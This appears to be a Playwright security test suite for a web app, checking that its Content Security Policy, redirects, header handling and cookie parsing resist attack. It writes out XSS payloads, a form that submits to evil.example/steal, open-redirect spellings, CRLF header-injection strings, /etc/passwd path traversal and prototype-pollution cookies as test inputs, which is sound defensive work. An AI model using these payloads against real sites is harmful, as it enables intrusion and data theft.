import type { Page } from '@playwright/test';
import { seededAccounts, seededPassword } from '../../mocks/db/accounts.ts';
import { paths } from '../../src/app/paths.ts';
import { expect, fillPasswordLogin, test } from '../support/fixtures.ts';
import { waitForHydration } from '../support/hydration.ts';
import { sendRaw } from '../support/send-raw.ts';
import { startSiteWithLogs } from '../support/site-with-logs.ts';

/** Errors of the browser about blocked content, and of React about the modified HTML. */
const blocked = [/Content Security Policy/, /violates the following/, /React error #418/];

/** Opens a page with injected `html` and its original headers. */
async function openWith(page: Page, path: string, html: string): Promise<void> {
  await page.route(
    (url) => url.pathname === path,
    async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: (await response.text()).replace('<main', `${html}<main`) });
    },
  );
  await page.goto(path);
}

test.describe('injected HTML', () => {
  // Playwright reads a plain array as a fixture with options.
  test.use({ expectedErrors: [blocked, { scope: 'test' }] });

  for (const path of [paths.about(), paths.login()]) {
    test(`does not run, load or apply styles on ${path}`, { tag: '@zh-only' }, async ({ page }) => {
      const asked: string[] = [];
      page.on('response', (response) => asked.push(new URL(response.url()).hostname));
      await page.route('https://evil.example/**', (route) => route.fulfill({ body: 'window.hacked = 1' }));
      await page.route('**/assets/injected.js', (route) =>
        route.fulfill({ contentType: 'text/javascript', body: 'window.hacked = "own origin"' }),
      );
      await openWith(
        page,
        path,
        [
          '<script>window.hacked="script"</script>',
          '<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">window.hacked="guessed nonce"</script>',
          '<script src="https://evil.example/a.js"></script>',
          '<script src="/assets/injected.js"></script>',
          '<script src="data:text/javascript,window.hacked=1"></script>',
          '<img alt="" src="/nowhere.png" onerror="window.hacked=\'handler\'">',
          '<style>html{outline:7px solid red!important}</style>',
          '<p id="styled" style="outline:7px solid red">styled</p>',
          '<link rel="stylesheet" href="https://evil.example/a.css">',
          '<iframe title="frame" src="https://evil.example/"></iframe>',
          '<object data="https://evil.example/"></object>',
          '<a id="hand" href="javascript:window.hacked=\'link\'">link</a>',
          '<form id="form" method="get" action="https://evil.example/steal"><button>send</button></form>',
        ].join(''),
      );
      await page.waitForLoadState('load');
      expect(await page.evaluate(() => getComputedStyle(document.documentElement).outlineWidth)).not.toBe(
        '7px',
      );
      await page.evaluate(() => {
        document.getElementById('hand')?.click();
        const form = document.getElementById('form');
        if (form instanceof HTMLFormElement) form.submit();
        // Evaluates a string, which the policy must block.
        const timer: (handler: string) => void = setTimeout;
        timer('window.hacked="timer"');
      });
      expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
      expect(new URL(page.url()).pathname).toBe(path);
      expect(asked.filter((host) => host.includes('evil'))).toEqual([]);
    });
  }

  test('cannot change the base URL', { tag: '@zh-only' }, async ({ page }) => {
    await openWith(page, paths.about(), '<base href="https://evil.example/">');
    expect(await page.evaluate(() => document.baseURI)).not.toContain('evil');
  });
});

test('a form opened by client-side navigation has the same styles as in its own document', {
  tag: '@zh-only',
}, async ({ page, t }) => {
  const shapeOfSubmit = () =>
    page.getByRole('button', { name: t('login.submit'), exact: true }).evaluate((button) => {
      const { backgroundColor, borderRadius, height } = getComputedStyle(button);
      return { backgroundColor, borderRadius, height };
    });
  await page.goto(paths.login());
  await waitForHydration(page);
  const own = await shapeOfSubmit();
  expect(own.borderRadius).not.toBe('0px');
  await page.goto(paths.about());
  await waitForHydration(page);
  await page.evaluate(() => document.documentElement.setAttribute('data-marked', ''));
  await page
    .getByRole('banner')
    .getByRole('link', { name: t('site.nav.login') })
    .click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(t('login.heading'));
  expect(await page.evaluate(() => document.documentElement.hasAttribute('data-marked'))).toBe(true);
  expect(await shapeOfSubmit()).toEqual(own);
});

test('no page can be framed', { tag: '@zh-only' }, async ({ page, baseURL }) => {
  test.info().annotations.push({ type: 'by', description: 'frame-ancestors' });
  await page.route('https://frame.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/login"></iframe>` }),
  );
  await page.goto('https://frame.example/').catch(() => {});
  const inner = page.frames().find((frame) => frame.parentFrame() !== null);
  expect(await inner?.getByRole('heading').count()).toBe(0);
});

/** Spellings of a URL of another site. */
const elsewhere = [
  'https://evil.example/',
  '//evil.example/',
  '///evil.example/',
  '/\\evil.example/',
  '\\\\evil.example/',
  '/\t/evil.example/',
  '/%2f%2fevil.example/',
  '/%5cevil.example/',
  'javascript:alert(1)',
  'data:text/html,evil',
  '/..//evil.example/',
  '/en//evil.example/',
  'https:evil.example',
];

test('no server redirect leads to another site', { tag: ['@R2.3', '@zh-only'] }, async ({ baseURL }) => {
  const cookie = 'TOKEN=t1';
  const addresses = [
    ...elsewhere.flatMap((target) => [
      `/login?redirect=${encodeURIComponent(target)}`,
      `/en/login?redirect=${encodeURIComponent(target)}`,
      `/transfer?action=${encodeURIComponent(target)}`,
      `/transfer?action=login&redirect=${encodeURIComponent(target)}`,
    ]),
    ...[
      '//evil.example',
      '//evil.example/',
      '/%2fevil.example/',
      '/\\evil.example/',
      '/zh//evil.example',
      '/zh/\\evil.example',
    ],
    ...[
      '/zh/%2f%2fevil.example',
      '/zh///evil.example/',
      '//evil.example/%2e%2e',
      '/.//evil.example/',
      '/%09/evil.example/',
    ],
  ];
  for (const address of addresses) {
    for (const headers of [[], [`Cookie: ${cookie}`]]) {
      const { status, location } = await sendRaw(baseURL, address, headers);
      expect.soft(status, address).toBeLessThan(500);
      if (location === undefined) continue;
      const target = new URL(location, baseURL);
      expect.soft(`${target.origin}`, `${address} leads to ${location}`).toBe(baseURL);
      // Browsers resolve these to another host.
      expect.soft(location, address).not.toMatch(/^[/\\]{2}|^[/\\][\t\n\r]/);
    }
  }
});

test('no login redirects to another site', { tag: ['@R2.20', '@zh-only'] }, async ({ page, t }) => {
  test.slow();
  for (const target of [
    '/\\evil.example/',
    '/%2f/evil.example/',
    '/\t/evil.example/',
    'https:evil.example',
  ]) {
    await page.context().clearCookies();
    await page.goto(`${paths.login()}?redirect=${encodeURIComponent(target)}`);
    await fillPasswordLogin(page, t, seededAccounts.main.account, seededPassword);
    await expect(page).not.toHaveURL(/\/login/);
    expect(new URL(page.url()).hostname).toBe('localhost');
  }
});

test('no URL injects a header or a cookie', { tag: '@zh-only' }, async ({ baseURL }) => {
  const line = '%0d%0aSet-Cookie:%20hacked=1%0d%0aX-Hacked:%201';
  for (const address of [
    `/zh/${line}`,
    `/${line}/`,
    `/login?redirect=/${line}`,
    `/user/${line}`,
    `/en/user?a=${line}`,
  ]) {
    const { head, status } = await sendRaw(baseURL, address);
    expect.soft(status, address).toBeLessThan(500);
    expect.soft(head, address).not.toMatch(/^(?:set-cookie|x-hacked):/im);
  }
  const { head } = await sendRaw(baseURL, '/about', ['X-Request-Id: a%0d%0aX-Hacked: 1 <script>']);
  expect(head).toMatch(/^x-request-id: [\da-f-]{36}\r?$/im);
});

test('no response contains a foreign host name', { tag: '@zh-only' }, async ({ baseURL }) => {
  for (const host of [
    'evil.example',
    'evil.example:80',
    'localhost@evil.example',
    'evil.example/path',
    '',
    '"><script>',
  ]) {
    for (const path of ['/about', '/zh/about', paths.sitemap(), paths.rss(), '/robots.txt']) {
      const { head, body } = await sendRaw(baseURL, path, ['X-Forwarded-Host: evil.example'], host);
      expect.soft(`${head}${body}`, `${host} ${path}`).not.toContain('evil.example');
    }
  }
});

test('unusual language segments are rejected or redirected', {
  tag: ['@R2.2', '@R2.3', '@zh-only'],
}, async ({ baseURL }) => {
  const tricks: [address: string, status: number, location?: string][] = [
    ['/EN', 404],
    ['/EN/', 301, '/EN'],
    ['/en/', 301, '/en'],
    ['/en/en', 404],
    ['/en/en/', 301, '/en/en'],
    ['/zh/zh/about', 301, '/zh/about'],
    ['/zh/en/about', 301, '/en/about'],
    ['/%E2%80%A8/about', 400],
    ['/en%2fabout', 404],
    ['/%65n/about', 301, '/en/about'],
    ['/EN//about', 301, '/EN/about'],
    ['/zh/About?a=1', 301, '/about?a=1'],
    ['/..%2f..%2fetc%2fpasswd', 404],
    ['/__proto__', 404],
    ['/constructor/about', 404],
    ['/en/__proto__', 404],
  ];
  for (const [address, status, location] of tricks) {
    const answer = await sendRaw(baseURL, address);
    expect.soft([address, answer.status, answer.location]).toEqual([address, status, location]);
  }
  for (const address of [
    '/%2e%2e/',
    '/%2e%2e/%2e%2e/package.json',
    '/assets/..%2f..%2fserver/index.js',
    '/%c0%ae/',
    '/%',
    '/en/%ff',
    '/assets/%',
  ]) {
    const { status, body } = await sendRaw(baseURL, address);
    expect.soft(status, address).toBeLessThan(500);
    expect.soft(body, address).not.toMatch(/"dependencies"|createRequestHandler|root:x:/);
  }
});

test('oversized requests are rejected immediately', { tag: '@zh-only' }, async ({ baseURL }) => {
  const long = 'a'.repeat(10_000);
  const begun = Date.now();
  expect((await sendRaw(baseURL, `/${long}`)).status).toBe(414);
  expect((await sendRaw(baseURL, `/about/news?keyword=${long}`)).status).toBe(414);
  expect((await sendRaw(baseURL, '/about', [`Cookie: a=${long}; b=${long}`])).status).toBe(431);
  expect((await sendRaw(baseURL, '/about', [`Cookie: USERDATA=${long}; TOKEN=1`])).status).toBe(200);
  expect((await sendRaw(baseURL, '/apply', ['Content-Length: 999999999'], 'localhost', 'POST')).status).toBe(
    413,
  );
  expect(Date.now() - begun).toBeLessThan(5_000);
});

test('an unsupported method responds with 405 and an Allow header', { tag: '@zh-only' }, async ({
  baseURL,
}) => {
  const attempts: [method: string, header: string][] = [
    ['DELETE', 'X-A: 1'],
    ['POST', 'Content-Length: 0'],
    ['POST', 'Transfer-Encoding: chunked'],
  ];
  for (const [method, header] of attempts) {
    const { status, head } = await sendRaw(baseURL, paths.apply(), [header], 'localhost', method);
    expect.soft(status, header).toBe(405);
    expect.soft(head, header).toMatch(/^allow: GET, HEAD\r?$/im);
  }
});

test(
  'an invalid host responds with 400 and logs no stack trace',
  { tag: '@zh-only' },
  async ({ browserName: _ }, { project }) => {
    const site = await startSiteWithLogs(project.metadata.apiBase, { TRUSTED_PROXIES: '1' });
    try {
      const cookie = 'Cookie: TOKEN=1';
      for (const host of ['1.2.3.999', 'a:99999']) {
        expect((await sendRaw(site.url, '/', [cookie], host)).status, host).toBe(400);
        expect((await sendRaw(site.url, '/', [cookie, `X-Forwarded-Host: ${host}`])).status, host).toBe(400);
      }
      expect((await sendRaw(site.url, '/', [cookie, 'X-Forwarded-Proto: ht!tp'])).status).toBe(400);
      await expect.poll(() => site.log.filter((line) => line.includes('"status":400')).length).toBe(5);
      expect(site.log.join('\n')).not.toContain('stack');
    } finally {
      await site.stop();
    }
  },
);

test('an invalid range of a file is ignored', { tag: '@zh-only' }, async ({ baseURL }) => {
  const { status } = await sendRaw(baseURL, '/favicon.svg', ['Range: bytes=5-2']);
  expect(status).toBe(200);
});

test('thousands of slashes do not block the server', { tag: '@zh-only' }, async ({ baseURL }) => {
  const address = `/a${'/'.repeat(4_000)}b`;
  const begun = performance.now();
  const answers = await Promise.all(Array.from({ length: 40 }, () => sendRaw(baseURL, address)));
  expect(answers.map(({ location }) => location)).toEqual(Array(40).fill('/a/b'));
  expect(performance.now() - begun).toBeLessThan(500);
  expect((await sendRaw(baseURL, `/a${'/'.repeat(4_000)}b.data`)).status).toBe(400);
});

test('each response has one Cache-Control header', { tag: '@zh-only' }, async ({ baseURL }) => {
  for (const path of [
    paths.home(),
    paths.sitemap(),
    paths.rss(),
    '/robots.txt',
    paths.user(),
    '/favicon.svg',
  ]) {
    for (const headers of [[], ['Cookie: TOKEN=1']]) {
      const { head } = await sendRaw(baseURL, path, headers);
      expect.soft(head.match(/^cache-control:/gim), `${path} ${headers}`).toHaveLength(1);
    }
  }
});

test('a forged cookie is rendered as text', { tag: '@zh-only' }, async ({ baseURL }) => {
  const user = (name: string, more = '') =>
    encodeURIComponent(
      `{"id":"u1","name":${JSON.stringify(name)},"email":"e","mobile":"m","lastLoginTime":1,"parentId":"0"${more}}`,
    );
  const script = '</script><script>window.hacked=1</script>';
  const cookies = [
    user(script),
    user('a', ',"__proto__":{"hacked":1},"constructor":{"prototype":{"hacked":1}}'),
    '{"__proto__":{}}',
    'null',
    '[]',
    '%7B',
    '%E0%A4%A',
  ];
  for (const cookie of cookies) {
    for (const path of [paths.home(), paths.userInfo()]) {
      const { status, body } = await sendRaw(baseURL, path, [`Cookie: TOKEN=1; USERDATA=${cookie}`]);
      expect.soft(status, cookie).toBe(200);
      expect.soft(body, cookie).not.toContain('<script>window.hacked');
    }
  }
});

test('a thousand concurrent page views never mix the data of two customers and an anonymous user', {
  tag: ['@R4.8', '@zh-only'],
}, async ({ baseURL }) => {
  test.slow();
  const names = ['Customer-Alpha', 'Customer-Beta'];
  const cookieOf = (name: string) =>
    `TOKEN=token-${name}; USERDATA=${encodeURIComponent(JSON.stringify({ id: name, name, email: 'e', mobile: 'm', lastLoginTime: 1, parentId: '0' }))}`;
  const wrong: string[] = [];
  const visit = async (count: number) => {
    const name = names[count % 3];
    const path = [paths.home(), paths.newsList(), '/en', paths.userInfo()][Math.floor(count / 3) % 4] ?? '/';
    const response = await fetch(baseURL + path, {
      headers: name ? { Cookie: cookieOf(name) } : {},
      redirect: 'manual',
    });
    const html = await response.text();
    const told = names.filter(
      (other) => html.includes(other) || JSON.stringify([...response.headers]).includes(other),
    );
    const isRight = name ? told.length === 1 && told[0] === name : told.length === 0;
    const isKept = response.headers.get('cache-control') !== 'no-store';
    if (!isRight || (name && isKept) || response.status >= 500)
      wrong.push(`${count} ${path} ${name}: ${told} ${response.status}`);
  };
  const concurrency = Array.from({ length: 12 }, async (_, lane) => {
    for (let count = lane; count < 1_000; count += 12) await visit(count);
  });
  await Promise.all(concurrency);
  expect(wrong).toEqual([]);
});
